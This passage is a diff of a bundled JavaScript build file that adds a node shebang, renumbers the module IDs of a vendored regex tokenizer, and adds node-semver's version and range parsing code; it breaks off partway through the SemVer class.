@@ -1,3 +1,4 @@
+#!/usr/bin/env node
 import { createRequire as __WEBPACK_EXTERNAL_createRequire } from "module";
 /******/ var __webpack_modules__ = ({
 
@@ -6275,7 +6276,7 @@ function escapeJsonPtr(str) {
 
 /***/ }),
 
-/***/ 4028:
+/***/ 1767:
 /***/ (function(module, exports, __nccwpck_require__) {
 
 
@@ -6296,13 +6297,13 @@ var __exportStar = (this && this.__exportStar) || function(m, exports) {
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.types = void 0;
 /* istanbul ignore file */
-const types_1 = __nccwpck_require__(9282);
+const types_1 = __nccwpck_require__(397);
 Object.defineProperty(exports, "types", ({ enumerable: true, get: function () { return types_1.types; } }));
-__exportStar(__nccwpck_require__(697), exports);
-__exportStar(__nccwpck_require__(306), exports);
-const tokenizer_1 = __nccwpck_require__(697);
-const reconstruct_1 = __nccwpck_require__(306);
-__exportStar(__nccwpck_require__(9282), exports);
+__exportStar(__nccwpck_require__(5266), exports);
+__exportStar(__nccwpck_require__(3589), exports);
+const tokenizer_1 = __nccwpck_require__(5266);
+const reconstruct_1 = __nccwpck_require__(3589);
+__exportStar(__nccwpck_require__(397), exports);
 exports["default"] = tokenizer_1.tokenizer;
 module.exports = tokenizer_1.tokenizer;
 module.exports.types = types_1.types;
@@ -6311,14 +6312,14 @@ module.exports.reconstruct = reconstruct_1.reconstruct;
 
 /***/ }),
 
-/***/ 306:
+/***/ 3589:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.reconstruct = void 0;
-const types_1 = __nccwpck_require__(9282);
-const write_set_tokens_1 = __nccwpck_require__(6349);
+const types_1 = __nccwpck_require__(397);
+const write_set_tokens_1 = __nccwpck_require__(1096);
 const reduceStack = (stack) => stack.map(exports.reconstruct).join('');
 const createAlternate = (token) => {
     if ('options' in token) {
@@ -6395,7 +6396,7 @@ exports.reconstruct = reconstruct;
 
 /***/ }),
 
-/***/ 3494:
+/***/ 6825:
 /***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
 
 
@@ -6434,8 +6435,8 @@ var __importStar = (this && this.__importStar) || (function () {
 })();
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.NOTANYCHAR = exports.WHITESPACE = exports.WORDS = exports.INTS = void 0;
-const Sets = __importStar(__nccwpck_require__(1227));
-const types_1 = __nccwpck_require__(9282);
+const Sets = __importStar(__nccwpck_require__(998));
+const types_1 = __nccwpck_require__(397);
 function setToLookup(tokens) {
     let lookup = {};
     let len = 0;
@@ -6466,13 +6467,13 @@ exports.NOTANYCHAR = setToLookup(Sets.anyChar().set);
 
 /***/ }),
 
-/***/ 1227:
+/***/ 998:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.anyChar = exports.notWhitespace = exports.whitespace = exports.notInts = exports.ints = exports.notWords = exports.words = void 0;
-const types_1 = __nccwpck_require__(9282);
+const types_1 = __nccwpck_require__(397);
 const INTS = () => [{ type: types_1.types.RANGE, from: 48, to: 57 }];
 const WORDS = () => [
     { type: types_1.types.CHAR, value: 95 },
@@ -6522,7 +6523,7 @@ exports.anyChar = anyChar;
 
 /***/ }),
 
-/***/ 697:
+/***/ 5266:
 /***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
 
 
@@ -6561,9 +6562,9 @@ var __importStar = (this && this.__importStar) || (function () {
 })();
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.tokenizer = void 0;
-const util = __importStar(__nccwpck_require__(3678));
-const types_1 = __nccwpck_require__(9282);
-const sets = __importStar(__nccwpck_require__(1227));
+const util = __importStar(__nccwpck_require__(5751));
+const types_1 = __nccwpck_require__(397);
+const sets = __importStar(__nccwpck_require__(998));
 /**
  * Valid opening characters for capture group names.
  */
@@ -6900,7 +6901,7 @@ function updateReferences(referenceQueue, groupCount) {
 
 /***/ }),
 
-/***/ 9282:
+/***/ 397:
 /***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
 
 
@@ -6919,14 +6920,14 @@ var __exportStar = (this && this.__exportStar) || function(m, exports) {
     for (var p in m) if (p !== "default" && !Object.prototype.hasOwnProperty.call(exports, p)) __createBinding(exports, m, p);
 };
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-__exportStar(__nccwpck_require__(5426), exports);
-__exportStar(__nccwpck_require__(7759), exports);
-__exportStar(__nccwpck_require__(9797), exports);
+__exportStar(__nccwpck_require__(8623), exports);
+__exportStar(__nccwpck_require__(3460), exports);
+__exportStar(__nccwpck_require__(8596), exports);
 //# sourceMappingURL=index.js.map
 
 /***/ }),
 
-/***/ 9797:
+/***/ 8596:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -6935,7 +6936,7 @@ Object.defineProperty(exports, "__esModule", ({ value: true }));
 
 /***/ }),
 
-/***/ 5426:
+/***/ 8623:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -6944,7 +6945,7 @@ Object.defineProperty(exports, "__esModule", ({ value: true }));
 
 /***/ }),
 
-/***/ 7759:
+/***/ 3460:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -6965,7 +6966,7 @@ var types;
 
 /***/ }),
 
-/***/ 3678:
+/***/ 5751:
 /***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
 
 
@@ -7004,8 +7005,8 @@ var __importStar = (this && this.__importStar) || (function () {
 })();
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.tokenizeClass = exports.strToChars = void 0;
-const types_1 = __nccwpck_require__(9282);
-const sets = __importStar(__nccwpck_require__(1227));
+const types_1 = __nccwpck_require__(397);
+const sets = __importStar(__nccwpck_require__(998));
 const CTRL = '@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^ ?';
 /**
  * Finds character representations in str and convert all to
@@ -7069,7 +7070,7 @@ exports.tokenizeClass = tokenizeClass;
 
 /***/ }),
 
-/***/ 6349:
+/***/ 1096:
 /***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
 
 
@@ -7109,8 +7110,8 @@ var __importStar = (this && this.__importStar) || (function () {
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.setChar = setChar;
 exports.writeSetTokens = writeSetTokens;
-const types_1 = __nccwpck_require__(9282);
-const sets = __importStar(__nccwpck_require__(3494));
+const types_1 = __nccwpck_require__(397);
+const sets = __importStar(__nccwpck_require__(6825));
 /**
  * Takes character code and returns character to be displayed in a set
  * @param {number} charCode Character code of set element
@@ -7196,19 +7197,3262 @@ function writeSetToken(set) {
 
 /***/ }),
 
+/***/ 9379:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const ANY = Symbol('SemVer ANY')
+// hoisted class for cyclic dependency
+class Comparator {
+  static get ANY () {
+    return ANY
+  }
+
+  constructor (comp, options) {
+    options = parseOptions(options)
+
+    if (comp instanceof Comparator) {
+      if (comp.loose === !!options.loose) {
+        return comp
+      } else {
+        comp = comp.value
+      }
+    }
+
+    comp = comp.trim().split(/\s+/).join(' ')
+    debug('comparator', comp, options)
+    this.options = options
+    this.loose = !!options.loose
+    this.parse(comp)
+
+    if (this.semver === ANY) {
+      this.value = ''
+    } else {
+      this.value = this.operator + this.semver.version
+    }
+
+    debug('comp', this)
+  }
+
+  parse (comp) {
+    const r = this.options.loose ? re[t.COMPARATORLOOSE] : re[t.COMPARATOR]
+    const m = comp.match(r)
+
+    if (!m) {
+      throw new TypeError(`Invalid comparator: ${comp}`)
+    }
+
+    this.operator = m[1] !== undefined ? m[1] : ''
+    if (this.operator === '=') {
+      this.operator = ''
+    }
+
+    // if it literally is just '>' or '' then allow anything.
+    if (!m[2]) {
+      this.semver = ANY
+    } else {
+      this.semver = new SemVer(m[2], this.options.loose)
+    }
+  }
+
+  toString () {
+    return this.value
+  }
+
+  test (version) {
+    debug('Comparator.test', version, this.options.loose)
+
+    if (this.semver === ANY || version === ANY) {
+      return true
+    }
+
+    if (typeof version === 'string') {
+      try {
+        version = new SemVer(version, this.options)
+      } catch (er) {
+        return false
+      }
+    }
+
+    return cmp(version, this.operator, this.semver, this.options)
+  }
+
+  intersects (comp, options) {
+    if (!(comp instanceof Comparator)) {
+      throw new TypeError('a Comparator is required')
+    }
+
+    if (this.operator === '') {
+      if (this.value === '') {
+        return true
+      }
+      return new Range(comp.value, options).test(this.value)
+    } else if (comp.operator === '') {
+      if (comp.value === '') {
+        return true
+      }
+      return new Range(this.value, options).test(comp.semver)
+    }
+
+    options = parseOptions(options)
+
+    // Special cases where nothing can possibly be lower
+    if (options.includePrerelease &&
+      (this.value === '<0.0.0-0' || comp.value === '<0.0.0-0')) {
+      return false
+    }
+    if (!options.includePrerelease &&
+      (this.value.startsWith('<0.0.0') || comp.value.startsWith('<0.0.0'))) {
+      return false
+    }
+
+    // Same direction increasing (> or >=)
+    if (this.operator.startsWith('>') && comp.operator.startsWith('>')) {
+      return true
+    }
+    // Same direction decreasing (< or <=)
+    if (this.operator.startsWith('<') && comp.operator.startsWith('<')) {
+      return true
+    }
+    // same SemVer and both sides are inclusive (<= or >=)
+    if (
+      (this.semver.version === comp.semver.version) &&
+      this.operator.includes('=') && comp.operator.includes('=')) {
+      return true
+    }
+    // opposite directions less than
+    if (cmp(this.semver, '<', comp.semver, options) &&
+      this.operator.startsWith('>') && comp.operator.startsWith('<')) {
+      return true
+    }
+    // opposite directions greater than
+    if (cmp(this.semver, '>', comp.semver, options) &&
+      this.operator.startsWith('<') && comp.operator.startsWith('>')) {
+      return true
+    }
+    return false
+  }
+}
+
+module.exports = Comparator
+
+const parseOptions = __nccwpck_require__(356)
+const { safeRe: re, t } = __nccwpck_require__(5471)
+const cmp = __nccwpck_require__(8646)
+const debug = __nccwpck_require__(1159)
+const SemVer = __nccwpck_require__(7163)
+const Range = __nccwpck_require__(6782)
+
+
+/***/ }),
+
+/***/ 6782:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const SPACE_CHARACTERS = /\s+/g
+
+// hoisted class for cyclic dependency
+class Range {
+  constructor (range, options) {
+    options = parseOptions(options)
+
+    if (range instanceof Range) {
+      if (
+        range.loose === !!options.loose &&
+        range.includePrerelease === !!options.includePrerelease
+      ) {
+        return range
+      } else {
+        return new Range(range.raw, options)
+      }
+    }
+
+    if (range instanceof Comparator) {
+      // just put it in the set and return
+      this.raw = range.value
+      this.set = [[range]]
+      this.formatted = undefined
+      return this
+    }
+
+    this.options = options
+    this.loose = !!options.loose
+    this.includePrerelease = !!options.includePrerelease
+
+    // First reduce all whitespace as much as possible so we do not have to rely
+    // on potentially slow regexes like \s*. This is then stored and used for
+    // future error messages as well.
+    this.raw = range.trim().replace(SPACE_CHARACTERS, ' ')
+
+    // First, split on ||
+    this.set = this.raw
+      .split('||')
+      // map the range to a 2d array of comparators
+      .map(r => this.parseRange(r.trim()))
+      // throw out any comparator lists that are empty
+      // this generally means that it was not a valid range, which is allowed
+      // in loose mode, but will still throw if the WHOLE range is invalid.
+      .filter(c => c.length)
+
+    if (!this.set.length) {
+      throw new TypeError(`Invalid SemVer Range: ${this.raw}`)
+    }
+
+    // if we have any that are not the null set, throw out null sets.
+    if (this.set.length > 1) {
+      // keep the first one, in case they're all null sets
+      const first = this.set[0]
+      this.set = this.set.filter(c => !isNullSet(c[0]))
+      if (this.set.length === 0) {
+        this.set = [first]
+      } else if (this.set.length > 1) {
+        // if we have any that are *, then the range is just *
+        for (const c of this.set) {
+          if (c.length === 1 && isAny(c[0])) {
+            this.set = [c]
+            break
+          }
+        }
+      }
+    }
+
+    this.formatted = undefined
+  }
+
+  get range () {
+    if (this.formatted === undefined) {
+      this.formatted = ''
+      for (let i = 0; i < this.set.length; i++) {
+        if (i > 0) {
+          this.formatted += '||'
+        }
+        const comps = this.set[i]
+        for (let k = 0; k < comps.length; k++) {
+          if (k > 0) {
+            this.formatted += ' '
+          }
+          this.formatted += comps[k].toString().trim()
+        }
+      }
+    }
+    return this.formatted
+  }
+
+  format () {
+    return this.range
+  }
+
+  toString () {
+    return this.range
+  }
+
+  parseRange (range) {
+    // strip build metadata so it can't bleed into the version
+    range = range.replace(BUILDSTRIPRE, '')
+
+    // memoize range parsing for performance.
+    // this is a very hot path, and fully deterministic.
+    const memoOpts =
+      (this.options.includePrerelease && FLAG_INCLUDE_PRERELEASE) |
+      (this.options.loose && FLAG_LOOSE)
+    const memoKey = memoOpts + ':' + range
+    const cached = cache.get(memoKey)
+    if (cached) {
+      return cached
+    }
+
+    const loose = this.options.loose
+    // `1.2.3 - 1.2.4` => `>=1.2.3 <=1.2.4`
+    const hr = loose ? re[t.HYPHENRANGELOOSE] : re[t.HYPHENRANGE]
+    range = range.replace(hr, hyphenReplace(this.options.includePrerelease))
+    debug('hyphen replace', range)
+
+    // `> 1.2.3 < 1.2.5` => `>1.2.3 <1.2.5`
+    range = trimComparatorWhitespace(range)
+    debug('comparator trim', range)
+
+    // `~ 1.2.3` => `~1.2.3`
+    range = range.replace(re[t.TILDETRIM], tildeTrimReplace)
+    debug('tilde trim', range)
+
+    // `^ 1.2.3` => `^1.2.3`
+    range = range.replace(re[t.CARETTRIM], caretTrimReplace)
+    debug('caret trim', range)
+
+    // At this point, the range is completely trimmed and
+    // ready to be split into comparators.
+
+    let rangeList = range
+      .split(' ')
+      .map(comp => parseComparator(comp, this.options))
+      .join(' ')
+      .split(/\s+/)
+      // >=0.0.0 is equivalent to *
+      .map(comp => replaceGTE0(comp, this.options))
+
+    if (loose) {
+      // in loose mode, throw out any that are not valid comparators
+      rangeList = rangeList.filter(comp => {
+        debug('loose invalid filter', comp, this.options)
+        return !!comp.match(re[t.COMPARATORLOOSE])
+      })
+    }
+    debug('range list', rangeList)
+
+    // if any comparators are the null set, then replace with JUST null set
+    // if more than one comparator, remove any * comparators
+    // also, don't include the same comparator more than once
+    const rangeMap = new Map()
+    const comparators = rangeList.map(comp => new Comparator(comp, this.options))
+    for (const comp of comparators) {
+      if (isNullSet(comp)) {
+        return [comp]
+      }
+      rangeMap.set(comp.value, comp)
+    }
+    if (rangeMap.size > 1 && rangeMap.has('')) {
+      rangeMap.delete('')
+    }
+
+    const result = [...rangeMap.values()]
+    cache.set(memoKey, result)
+    return result
+  }
+
+  intersects (range, options) {
+    if (!(range instanceof Range)) {
+      throw new TypeError('a Range is required')
+    }
+
+    return this.set.some((thisComparators) => {
+      return (
+        isSatisfiable(thisComparators, options) &&
+        range.set.some((rangeComparators) => {
+          return (
+            isSatisfiable(rangeComparators, options) &&
+            thisComparators.every((thisComparator) => {
+              return rangeComparators.every((rangeComparator) => {
+                return thisComparator.intersects(rangeComparator, options)
+              })
+            })
+          )
+        })
+      )
+    })
+  }
+
+  // if ANY of the sets match ALL of its comparators, then pass
+  test (version) {
+    if (!version) {
+      return false
+    }
+
+    if (typeof version === 'string') {
+      try {
+        version = new SemVer(version, this.options)
+      } catch (er) {
+        return false
+      }
+    }
+
+    for (let i = 0; i < this.set.length; i++) {
+      if (testSet(this.set[i], version, this.options)) {
+        return true
+      }
+    }
+    return false
+  }
+}
+
+module.exports = Range
+
+const LRU = __nccwpck_require__(1383)
+const cache = new LRU()
+
+const parseOptions = __nccwpck_require__(356)
+const Comparator = __nccwpck_require__(9379)
+const debug = __nccwpck_require__(1159)
+const SemVer = __nccwpck_require__(7163)
+const trimComparatorWhitespace = __nccwpck_require__(9737)
+const {
+  safeRe: re,
+  src,
+  t,
+  tildeTrimReplace,
+  caretTrimReplace,
+} = __nccwpck_require__(5471)
+const { FLAG_INCLUDE_PRERELEASE, FLAG_LOOSE } = __nccwpck_require__(5101)
+
+// unbounded global build-metadata stripper used by parseRange
+const BUILDSTRIPRE = new RegExp(src[t.BUILD], 'g')
+
+const isNullSet = c => c.value === '<0.0.0-0'
+const isAny = c => c.value === ''
+
+// take a set of comparators and determine whether there
+// exists a version which can satisfy it
+const isSatisfiable = (comparators, options) => {
+  let result = true
+  const remainingComparators = comparators.slice()
+  let testComparator = remainingComparators.pop()
+
+  while (result && remainingComparators.length) {
+    result = remainingComparators.every((otherComparator) => {
+      return testComparator.intersects(otherComparator, options)
+    })
+
+    testComparator = remainingComparators.pop()
+  }
+
+  return result
+}
+
+// comprised of xranges, tildes, stars, and gtlt's at this point.
+// already replaced the hyphen ranges
+// turn into a set of JUST comparators.
+const parseComparator = (comp, options) => {
+  comp = comp.replace(re[t.BUILD], '')
+  debug('comp', comp, options)
+  comp = replaceCarets(comp, options)
+  debug('caret', comp)
+  comp = replaceTildes(comp, options)
+  debug('tildes', comp)
+  comp = replaceXRanges(comp, options)
+  debug('xrange', comp)
+  comp = replaceStars(comp, options)
+  debug('stars', comp)
+  return comp
+}
+
+const isX = id => !id || id.toLowerCase() === 'x' || id === '*'
+
+const invalidXRangeOrder = (M, m, p) => (
+  (isX(M) && !isX(m)) ||
+  (isX(m) && p && !isX(p))
+)
+
+// ~, ~> --> * (any, kinda silly)
+// ~2, ~2.x, ~2.x.x, ~>2, ~>2.x ~>2.x.x --> >=2.0.0 <3.0.0-0
+// ~2.0, ~2.0.x, ~>2.0, ~>2.0.x --> >=2.0.0 <2.1.0-0
+// ~1.2, ~1.2.x, ~>1.2, ~>1.2.x --> >=1.2.0 <1.3.0-0
+// ~1.2.3, ~>1.2.3 --> >=1.2.3 <1.3.0-0
+// ~1.2.0, ~>1.2.0 --> >=1.2.0 <1.3.0-0
+// ~0.0.1 --> >=0.0.1 <0.1.0-0
+const replaceTildes = (comp, options) => {
+  return comp
+    .trim()
+    .split(/\s+/)
+    .map((c) => replaceTilde(c, options))
+    .join(' ')
+}
+
+const replaceTilde = (comp, options) => {
+  const r = options.loose ? re[t.TILDELOOSE] : re[t.TILDE]
+  // if we're including prereleases in the match, then the lower bound is
+  // -0, the lowest possible prerelease value, just like x-ranges and carets.
+  // this keeps `~1.2` equivalent to the `1.2.x` x-range it's documented as.
+  const z = options.includePrerelease ? '-0' : ''
+  return comp.replace(r, (_, M, m, p, pr) => {
+    debug('tilde', comp, _, M, m, p, pr)
+    let ret
+
+    if (isX(M)) {
+      ret = ''
+    } else if (isX(m)) {
+      ret = `>=${M}.0.0${z} <${+M + 1}.0.0-0`
+    } else if (isX(p)) {
+      // ~1.2 == >=1.2.0 <1.3.0-0
+      ret = `>=${M}.${m}.0${z} <${M}.${+m + 1}.0-0`
+    } else if (pr) {
+      debug('replaceTilde pr', pr)
+      ret = `>=${M}.${m}.${p}-${pr
+      } <${M}.${+m + 1}.0-0`
+    } else {
+      // ~1.2.3 == >=1.2.3 <1.3.0-0
+      ret = `>=${M}.${m}.${p
+      } <${M}.${+m + 1}.0-0`
+    }
+
+    debug('tilde return', ret)
+    return ret
+  })
+}
+
+// ^ --> * (any, kinda silly)
+// ^2, ^2.x, ^2.x.x --> >=2.0.0 <3.0.0-0
+// ^2.0, ^2.0.x --> >=2.0.0 <3.0.0-0
+// ^1.2, ^1.2.x --> >=1.2.0 <2.0.0-0
+// ^1.2.3 --> >=1.2.3 <2.0.0-0
+// ^1.2.0 --> >=1.2.0 <2.0.0-0
+// ^0.0.1 --> >=0.0.1 <0.0.2-0
+// ^0.1.0 --> >=0.1.0 <0.2.0-0
+const replaceCarets = (comp, options) => {
+  return comp
+    .trim()
+    .split(/\s+/)
+    .map((c) => replaceCaret(c, options))
+    .join(' ')
+}
+
+const replaceCaret = (comp, options) => {
+  debug('caret', comp, options)
+  const r = options.loose ? re[t.CARETLOOSE] : re[t.CARET]
+  const z = options.includePrerelease ? '-0' : ''
+  return comp.replace(r, (_, M, m, p, pr) => {
+    debug('caret', comp, _, M, m, p, pr)
+    let ret
+
+    if (isX(M)) {
+      ret = ''
+    } else if (isX(m)) {
+      ret = `>=${M}.0.0${z} <${+M + 1}.0.0-0`
+    } else if (isX(p)) {
+      if (M === '0') {
+        ret = `>=${M}.${m}.0${z} <${M}.${+m + 1}.0-0`
+      } else {
+        ret = `>=${M}.${m}.0${z} <${+M + 1}.0.0-0`
+      }
+    } else if (pr) {
+      debug('replaceCaret pr', pr)
+      if (M === '0') {
+        if (m === '0') {
+          ret = `>=${M}.${m}.${p}-${pr
+          } <${M}.${m}.${+p + 1}-0`
+        } else {
+          ret = `>=${M}.${m}.${p}-${pr
+          } <${M}.${+m + 1}.0-0`
+        }
+      } else {
+        ret = `>=${M}.${m}.${p}-${pr
+        } <${+M + 1}.0.0-0`
+      }
+    } else {
+      debug('no pr')
+      if (M === '0') {
+        if (m === '0') {
+          ret = `>=${M}.${m}.${p
+          } <${M}.${m}.${+p + 1}-0`
+        } else {
+          ret = `>=${M}.${m}.${p
+          } <${M}.${+m + 1}.0-0`
+        }
+      } else {
+        ret = `>=${M}.${m}.${p
+        } <${+M + 1}.0.0-0`
+      }
+    }
+
+    debug('caret return', ret)
+    return ret
+  })
+}
+
+const replaceXRanges = (comp, options) => {
+  debug('replaceXRanges', comp, options)
+  return comp
+    .split(/\s+/)
+    .map((c) => replaceXRange(c, options))
+    .join(' ')
+}
+
+const replaceXRange = (comp, options) => {
+  comp = comp.trim()
+  const r = options.loose ? re[t.XRANGELOOSE] : re[t.XRANGE]
+  return comp.replace(r, (ret, gtlt, M, m, p, pr) => {
+    debug('xRange', comp, ret, gtlt, M, m, p, pr)
+    if (invalidXRangeOrder(M, m, p)) {
+      return comp
+    }
+
+    const xM = isX(M)
+    const xm = xM || isX(m)
+    const xp = xm || isX(p)
+    const anyX = xp
+
+    if (gtlt === '=' && anyX) {
+      gtlt = ''
+    }
+
+    // if we're including prereleases in the match, then we need
+    // to fix this to -0, the lowest possible prerelease value
+    pr = options.includePrerelease ? '-0' : ''
+
+    if (xM) {
+      if (gtlt === '>' || gtlt === '<') {
+        // nothing is allowed
+        ret = '<0.0.0-0'
+      } else {
+        // nothing is forbidden
+        ret = '*'
+      }
+    } else if (gtlt && anyX) {
+      // we know patch is an x, because we have any x at all.
+      // replace X with 0
+      if (xm) {
+        m = 0
+      }
+      p = 0
+
+      if (gtlt === '>') {
+        // >1 => >=2.0.0
+        // >1.2 => >=1.3.0
+        gtlt = '>='
+        if (xm) {
+          M = +M + 1
+          m = 0
+          p = 0
+        } else {
+          m = +m + 1
+          p = 0
+        }
+      } else if (gtlt === '<=') {
+        // <=0.7.x is actually <0.8.0, since any 0.7.x should
+        // pass.  Similarly, <=7.x is actually <8.0.0, etc.
+        gtlt = '<'
+        if (xm) {
+          M = +M + 1
+        } else {
+          m = +m + 1
+        }
+      }
+
+      if (gtlt === '<') {
+        pr = '-0'
+      }
+
+      ret = `${gtlt + M}.${m}.${p}${pr}`
+    } else if (xm) {
+      ret = `>=${M}.0.0${pr} <${+M + 1}.0.0-0`
+    } else if (xp) {
+      ret = `>=${M}.${m}.0${pr
+      } <${M}.${+m + 1}.0-0`
+    }
+
+    debug('xRange return', ret)
+
+    return ret
+  })
+}
+
+// Because * is AND-ed with everything else in the comparator,
+// and '' means "any version", just remove the *s entirely.
+const replaceStars = (comp, options) => {
+  debug('replaceStars', comp, options)
+  // Looseness is ignored here.  star is always as loose as it gets!
+  return comp
+    .trim()
+    .replace(re[t.STAR], '')
+}
+
+const replaceGTE0 = (comp, options) => {
+  debug('replaceGTE0', comp, options)
+  return comp
+    .trim()
+    .replace(re[options.includePrerelease ? t.GTE0PRE : t.GTE0], '')
+}
+
+// This function is passed to string.replace(re[t.HYPHENRANGE])
+// M, m, patch, prerelease, build
+// 1.2 - 3.4.5 => >=1.2.0 <=3.4.5
+// 1.2.3 - 3.4 => >=1.2.0 <3.5.0-0 Any 3.4.x will do
+// 1.2 - 3.4 => >=1.2.0 <3.5.0-0
+// TODO build?
+const hyphenReplace = incPr => ($0,
+  from, fM, fm, fp, fpr, fb,
+  to, tM, tm, tp, tpr) => {
+  if (isX(fM)) {
+    from = ''
+  } else if (isX(fm)) {
+    from = `>=${fM}.0.0${incPr ? '-0' : ''}`
+  } else if (isX(fp)) {
+    from = `>=${fM}.${fm}.0${incPr ? '-0' : ''}`
+  } else if (fpr) {
+    from = `>=${from}`
+  } else {
+    from = `>=${from}${incPr ? '-0' : ''}`
+  }
+
+  if (isX(tM)) {
+    to = ''
+  } else if (isX(tm)) {
+    to = `<${+tM + 1}.0.0-0`
+  } else if (isX(tp)) {
+    to = `<${tM}.${+tm + 1}.0-0`
+  } else if (tpr) {
+    to = `<=${tM}.${tm}.${tp}-${tpr}`
+  } else if (incPr) {
+    to = `<${tM}.${tm}.${+tp + 1}-0`
+  } else {
+    to = `<=${to}`
+  }
+
+  return `${from} ${to}`.trim()
+}
+
+const testSet = (set, version, options) => {
+  for (let i = 0; i < set.length; i++) {
+    if (!set[i].test(version)) {
+      return false
+    }
+  }
+
+  if (version.prerelease.length && !options.includePrerelease) {
+    // Find the set of versions that are allowed to have prereleases
+    // For example, ^1.2.3-pr.1 desugars to >=1.2.3-pr.1 <2.0.0
+    // That should allow `1.2.3-pr.2` to pass.
+    // However, `1.2.4-alpha.notready` should NOT be allowed,
+    // even though it's within the range set by the comparators.
+    for (let i = 0; i < set.length; i++) {
+      debug(set[i].semver)
+      if (set[i].semver === Comparator.ANY) {
+        continue
+      }
+
+      if (set[i].semver.prerelease.length > 0) {
+        const allowed = set[i].semver
+        if (allowed.major === version.major &&
+            allowed.minor === version.minor &&
+            allowed.patch === version.patch) {
+          return true
+        }
+      }
+    }
+
+    // Version has a -pre, but it's not one of the ones we like.
+    return false
+  }
+
+  return true
+}
+
+
+/***/ }),
+
+/***/ 7163:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const debug = __nccwpck_require__(1159)
+const { MAX_LENGTH, MAX_SAFE_INTEGER } = __nccwpck_require__(5101)
+const { safeRe: re, t } = __nccwpck_require__(5471)
+
+const parseOptions = __nccwpck_require__(356)
+const { compareIdentifiers } = __nccwpck_require__(3348)
+
+const isPrereleaseIdentifier = (prerelease, identifier) => {
+  const identifiers = identifier.split('.')
+  if (identifiers.length > prerelease.length) {
+    return false
+  }
+
+  for (let i = 0; i < identifiers.length; i++) {
+    if (compareIdentifiers(prerelease[i], identifiers[i]) !== 0) {
+      return false
+    }
+  }
+
+  return true
+}
+
+class SemVer {
+  constructor (version, options) {
+    options = parseOptions(options)
+
+    if (version instanceof SemVer) {
+      if (version.loose === !!options.loose &&
+        version.includePrerelease === !!options.includePrerelease) {
+        return version
+      } else {
+        version = version.version
+      }
+    } else if (typeof version !== 'string') {
+      throw new TypeError(`Invalid version. Must be a string. Got type "${typeof version}".`)
+    }
+
+    if (version.length > MAX_LENGTH) {
+      throw new TypeError(
+        `version is longer than ${MAX_LENGTH} characters`
+      )
+    }
+
+    debug('SemVer', version, options)
+    this.options = options
+    this.loose = !!options.loose
+    // this isn't actually relevant for versions, but keep it so that we
+    // don't run into trouble passing this.options around.
+    this.includePrerelease = !!options.includePrerelease
+
+    const m = version.trim().match(options.loose ? re[t.LOOSE] : re[t.FULL])
+
+    if (!m) {
+      throw new TypeError(`Invalid Version: ${version}`)
+    }
+
+    this.raw = version
+
+    // these are actually numbers
+    this.major = +m[1]
+    this.minor = +m[2]
+    this.patch = +m[3]
+
+    if (this.major > MAX_SAFE_INTEGER || this.major < 0) {
+      throw new TypeError('Invalid major version')
+    }
+
+    if (this.minor > MAX_SAFE_INTEGER || this.minor < 0) {
+      throw new TypeError('Invalid minor version')
+    }
+
+    if (this.patch > MAX_SAFE_INTEGER || this.patch < 0) {
+      throw new TypeError('Invalid patch version')
+    }
+
+    // numberify any prerelease numeric ids
+    if (!m[4]) {
+      this.prerelease = []
+    } else {
+      this.prerelease = m[4].split('.').map((id) => {
+        if (/^[0-9]+$/.test(id)) {
+          const num = +id
+          if (num >= 0 && num < MAX_SAFE_INTEGER) {
+            return num
+          }
+        }
+        return id
+      })
+    }
+
+    this.build = m[5] ? m[5].split('.') : []
+    this.format()
+  }
+
+  format () {
+    this.version = `${this.major}.${this.minor}.${this.patch}`
+    if (this.prerelease.length) {
+      this.version += `-${this.prerelease.join('.')}`
+    }
+    return this.version
+  }
+
+  toString () {
+    return this.version
+  }
+
+  compare (other) {
+    debug('SemVer.compare', this.version, this.options, other)
+    if (!(other instanceof SemVer)) {
+      if (typeof other === 'string' && other === this.version) {
+        return 0
+      }
+      other = new SemVer(other, this.options)
+    }
+
+    if (other.version === this.version) {
+      return 0
+    }
+
+    return this.compareMain(other) || this.comparePre(other)
+  }
+
+  compareMain (other) {
+    if (!(other instanceof SemVer)) {
+      other = new SemVer(other, this.options)
+    }
+
+    if (this.major < other.major) {
+      return -1
+    }
+    if (this.major > other.major) {
+      return 1
+    }
+    if (this.minor < other.minor) {
+      return -1
+    }
+    if (this.minor > other.minor) {
+      return 1
+    }
+    if (this.patch < other.patch) {
+      return -1
+    }
+    if (this.patch > other.patch) {
+      return 1
+    }
+    return 0
+  }
+
+  comparePre (other) {
+    if (!(other instanceof SemVer)) {
+      other = new SemVer(other, this.options)
+    }
+
+    // NOT having a prerelease is > having one
+    if (this.prerelease.length && !other.prerelease.length) {
+      return -1
+    } else if (!this.prerelease.length && other.prerelease.length) {
+      return 1
+    } else if (!this.prerelease.length && !other.prerelease.length) {
+      return 0
+    }
+
+    let i = 0
+    do {
+      const a = this.prerelease[i]
+      const b = other.prerelease[i]
+      debug('prerelease compare', i, a, b)
+      if (a === undefined && b === undefined) {
+        return 0
+      } else if (b === undefined) {
+        return 1
+      } else if (a === undefined) {
+        return -1
+      } else if (a === b) {
+        continue
+      } else {
+        return compareIdentifiers(a, b)
+      }
+    } while (++i)
+  }
+
+  compareBuild (other) {
+    if (!(other instanceof SemVer)) {
+      other = new SemVer(other, this.options)
+    }
+
+    let i = 0
+    do {
+      const a = this.build[i]
